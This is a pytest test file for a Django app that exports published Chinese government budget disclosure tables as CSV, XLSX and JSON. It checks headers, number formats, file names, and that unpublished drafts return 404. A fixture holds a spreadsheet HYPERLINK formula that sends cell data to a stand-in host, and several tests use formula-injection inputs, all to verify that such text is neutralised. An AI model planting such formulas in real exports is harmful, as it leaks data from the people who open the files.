"""Downloads of published tables: CSV (BOM, 万元 without separators), XLSX (merged headers, numeric amounts),
JSON; formula neutralisation; Chinese file names; nothing for unpublished disclosures."""

import csv
import io
import json
import zipfile
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from disclosures.downloads import neutralise, rows_to_csv, rows_to_xlsx
from disclosures.models import Disclosure, ProjectLine

BOM = b"\xef\xbb\xbf"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'


@pytest.fixture
def budget(import_seed):
    return Disclosure.objects.get(pk=import_seed("001", publish=True).disclosure_id)


@pytest.fixture
def final(import_seed):
    return Disclosure.objects.get(pk=import_seed("003", publish=True).disclosure_id)


@pytest.fixture
def draft(import_seed):
    return Disclosure.objects.get(pk=import_seed("002").disclosure_id)


@pytest.fixture
def with_formula(import_seed):
    """A budget with a project named like a formula: added while a draft (published rows are immutable), then
    published."""
    disclosure = Disclosure.objects.get(pk=import_seed("001").disclosure_id)
    ProjectLine.objects.create(disclosure=disclosure, order=900, name=HYPERLINK, general=Decimal("-12345.00"))
    Disclosure.objects.filter(pk=disclosure.pk).update(status=Disclosure.Status.PUBLISHED, published_at=timezone.now())
    return disclosure


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def disposition(name: str) -> str:
    return f"attachment; filename*=utf-8''{quote(name)}"


class TestTableCsv:
    def test_budget_table_rows_as_printed(self, client, budget):
        response = client.get(f"/disclosures/{budget.pk}/tables/budget_03.csv")
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == disposition("晋城市应急管理局2026年度单位预算公开_表三.csv")
        rows = csv_rows(response.content)
        assert rows[0] == ["表三 2026年预算支出总表"]
        assert rows[1] == ["单位名称：晋城市应急管理局", "", "", "", "单位：万元"]
        assert rows[2] == [
            "项目/科目编码",
            "项目/科目名称",
            "2026年预算数/合计",
            "2026年预算数/基本支出",
            "2026年预算数/项目支出",
        ]
        assert rows[3] == ["合计", "", "3306.81", "1071.45", "2235.36"]  # no thousands separator in CSV
        assert ["224", "灾害防治及应急管理支出"] in [r[:2] for r in rows[4:]]

    def test_numbered_final_table_has_its_column_number_row(self, client, final):
        rows = csv_rows(client.get(f"/disclosures/{final.pk}/tables/final_01.csv").content)
        assert rows[0] == ["公开01表 收入支出决算总表"]
        assert rows[2] == ["收入/项目", "收入/行次", "收入/金额", "支出/项目", "支出/行次", "支出/金额"]
        assert rows[3] == ["栏次", "", "1", "栏次", "", "2"]
        total = next(r for r in rows if r[:1] == ["总计"])
        assert total == ["总计", "31", "3487.99", "总计", "62", "3487.99"]
        assert ["二、政府性基金预算财政拨款收入", "2", "", "二、外交支出", "33", ""] in rows  # blank stays blank
        assert rows[-1][0].startswith("注：本表反映部门本年度的总收支")

    def test_formula_text_is_neutralised(self, client, with_formula):
        rows = csv_rows(client.get(f"/disclosures/{with_formula.pk}/tables/budget_12.csv").content)
        (row,) = [r for r in rows if "HYPERLINK" in r[0]]
        assert row[0] == "'" + HYPERLINK
        assert row[1:3] == ["-1.23", "-1.23"]  # numbers are never prefixed
        assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


class TestDisclosureDownloads:
    def test_csv_is_a_zip_of_one_csv_per_table(self, client, budget):
        response = client.get(f"/disclosures/{budget.pk}/download.csv")
        assert response.status_code == 200 and response["Content-Type"] == "application/zip"
        assert response["Content-Disposition"] == disposition("晋城市应急管理局2026年度单位预算公开.zip")
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        names = archive.namelist()
        assert len(names) == 13
        assert names[0] == "01_表一_2026年预算收支总表.csv" and names[2] == "03_表三_2026年预算支出总表.csv"
        rows = csv_rows(archive.read(names[2]))
        assert rows[3] == ["合计", "", "3306.81", "1071.45", "2235.36"]

    def test_xlsx_one_sheet_per_table_with_merged_headers_and_numeric_amounts(self, client, budget):
        response = client.get(f"/disclosures/{budget.pk}/download.xlsx")
        assert response.status_code == 200
        assert response["Content-Disposition"] == disposition("晋城市应急管理局2026年度单位预算公开.xlsx")
        wb = workbook(response.content)
        assert wb.sheetnames == [f"表{n}" for n in "一二三四五六七八九十"] + ["表十一", "表十二", "表十三"]
        ws = wb["表三"]
        merged = {str(r) for r in ws.merged_cells.ranges}
        assert ws["A1"].value == "表三 2026年预算支出总表" and "A1:E1" in merged
        assert ws["A2"].value == "单位名称：晋城市应急管理局" and ws["E2"].value == "单位：万元"
        assert (ws["A3"].value, ws["C3"].value) == ("项目", "2026年预算数") and {"A3:B3", "C3:E3"} <= merged
        assert [c.value for c in ws[4]] == ["科目编码", "科目名称", "合计", "基本支出", "项目支出"]
        total = [c.value for c in ws[5]]
        assert total[0] == "合计" and total[2:] == [
            pytest.approx(3306.81),
            pytest.approx(1071.45),
            pytest.approx(2235.36),
        ]
        assert ws["C5"].data_type == "n" and ws["C5"].number_format == "#,##0.00"
        assert all(ws.column_dimensions[col].width >= 8 for col in "ABCDE")
        assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width  # names are wider than codes

    def test_xlsx_three_level_header(self, client, final):
        ws = workbook(client.get(f"/disclosures/{final.pk}/download.xlsx").content)["公开09表"]
        merged = {str(r) for r in ws.merged_cells.ranges}
        assert ws["A3"].value == "预算数" and ws["G3"].value == "决算数" and {"A3:F3", "G3:L3"} <= merged
        assert ws["A4"].value == "合计" and "A4:A5" in merged  # a short path spans the rows below
        assert ws["C4"].value == "公务用车购置及运行维护费" and "C4:E4" in merged
        assert [ws.cell(5, c).value for c in (3, 4, 5)] == ["小计", "公务用车购置费", "公务用车运行维护费"]
        assert [ws.cell(6, c).value for c in range(1, 7)] == ["1", "2", "3", "4", "5", "6"]  # 栏次

    def test_xlsx_merged_ranges_never_overlap(self, client, budget, final):
        """Excel refuses to open a workbook whose merged ranges overlap."""
        for disclosure in (budget, final):
            for ws in workbook(client.get(f"/disclosures/{disclosure.pk}/download.xlsx").content):
                covered = [(r, c) for m in ws.merged_cells.ranges for r, c in m.cells]
                assert len(covered) == len(set(covered)), ws.title

    def test_xlsx_final_summary_total(self, client, final):
        ws = workbook(client.get(f"/disclosures/{final.pk}/tables/final_01.xlsx").content)["公开01表"]
        rows = [[c.value for c in row] for row in ws.iter_rows()]
        total = next(r for r in rows if r[0] == "总计")
        assert total[2] == pytest.approx(3487.99) and total[5] == pytest.approx(3487.99)
        assert rows[2:5] == [
            ["收入", None, None, "支出", None, None],
            ["项目", "行次", "金额", "项目", "行次", "金额"],
            ["栏次", None, "1", "栏次", None, "2"],
        ]

    def test_xlsx_formula_text_is_neutralised(self, client, with_formula):
        ws = workbook(client.get(f"/disclosures/{with_formula.pk}/tables/budget_12.xlsx").content)["表十二"]
        (row,) = [r for r in ws.iter_rows() if "HYPERLINK" in str(r[0].value)]
        assert row[0].value == "'" + HYPERLINK and row[0].data_type == "s"
        assert row[1].data_type == "n" and row[1].value == pytest.approx(-1.23)

    def test_json_is_the_export_shape(self, client, budget):
        response = client.get(f"/disclosures/{budget.pk}/download.json")
        assert response["Content-Disposition"] == disposition("晋城市应急管理局2026年度单位预算公开.json")
        data = json.loads(response.content)
        assert data["id"] == budget.pk and data["unit_name"] == "晋城市应急管理局"
        assert data["tables"][2]["rows"][0]["cells"] == ["合计", "", "3306.81", "1071.45", "2235.36"]
        table = json.loads(client.get(f"/disclosures/{budget.pk}/tables/budget_03.json").content)
        assert table == data["tables"][2]

    def test_query_count_does_not_grow_with_the_tables(self, client, budget, django_assert_max_num_queries):
        with django_assert_max_num_queries(20):
            assert client.get(f"/disclosures/{budget.pk}/download.xlsx").status_code == 200
        with django_assert_max_num_queries(20):
            assert client.get(f"/disclosures/{budget.pk}/download.csv").status_code == 200


class TestOnlyPublished:
    URLS = [
        "/disclosures/{pk}/download.csv",
        "/disclosures/{pk}/download.xlsx",
        "/disclosures/{pk}/download.json",
        "/disclosures/{pk}/tables/budget_03.csv",
        "/disclosures/{pk}/tables/budget_03.xlsx",
        "/disclosures/{pk}/tables/budget_03.json",
    ]

    @pytest.mark.parametrize("url", URLS)
    def test_unpublished_does_not_exist(self, client, draft, url):
        assert client.get(url.format(pk=draft.pk)).status_code == 404

    @pytest.mark.parametrize("url", URLS)
    def test_published_does(self, client, budget, url):
        assert client.get(url.format(pk=budget.pk)).status_code == 200

    def test_unknown_table_or_format(self, client, budget):
        assert client.get(f"/disclosures/{budget.pk}/tables/final_01.csv").status_code == 404  # not a budget table
        assert client.get(f"/disclosures/{budget.pk}/tables/budget_99.xlsx").status_code == 404
        assert client.get(f"/disclosures/{budget.pk}/download.pdf").status_code == 404

    def test_get_only(self, client, budget):
        assert client.post(f"/disclosures/{budget.pk}/download.csv").status_code == 405


class TestSharedWriters:
    """rows_to_csv / rows_to_xlsx: the primitives other listings (search results) reuse."""

    @pytest.mark.parametrize("text", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\tx", "\rx"])
    def test_neutralise(self, text):
        assert neutralise(text) == "'" + text

    @pytest.mark.parametrize("text", ["合计", "——", "1+1", "'quoted", ""])
    def test_plain_text_is_kept(self, text):
        assert neutralise(text) == text

    def test_rows_to_csv(self):
        content = rows_to_csv(
            "项目检索：救援",
            ["项目名称", ("2026年财政拨款", "一般公共预算")],
            [["=cmd", Decimal("400.00")], ["航空救援", None]],
        )
        assert csv_rows(content) == [
            ["项目检索：救援"],
            ["项目名称", "2026年财政拨款/一般公共预算"],
            ["'=cmd", "400.00"],
            ["航空救援", ""],
        ]

    def test_rows_to_xlsx(self):
        content = rows_to_xlsx(
            "项目检索：救援",
            ["项目名称", "金额"],
            [["@x", Decimal("1234.5")], ["航空救援", None]],
            unit_note="单位：万元",
        )
        ws = workbook(content).active
        assert ws["A1"].value == "项目检索：救援" and "A1:B1" in {str(r) for r in ws.merged_cells.ranges}
        assert ws["B2"].value == "单位：万元"
        assert [c.value for c in ws[3]] == ["项目名称", "金额"]
        assert ws["A4"].value == "'@x" and ws["B4"].value == pytest.approx(1234.5)
        assert ws["B4"].number_format == "#,##0.00" and ws["B5"].value is None


class TestLinksOnThePage:
    def test_public_page_links_every_download(self, client, budget):
        html = client.get(f"/disclosures/{budget.pk}/").content.decode()
        for fmt in ("xlsx", "csv", "json"):
            assert f'href="/disclosures/{budget.pk}/download.{fmt}"' in html
            assert html.count(f'.{fmt}"') >= 13 and f'href="/disclosures/{budget.pk}/tables/budget_03.{fmt}"' in html
        assert 'href="/data-dictionary/#tables-budget"' in html

    def test_the_pdf_html_has_no_links(self, budget):
        from disclosures.pdf import render_document_html

        assert "download.xlsx" not in render_document_html(budget)
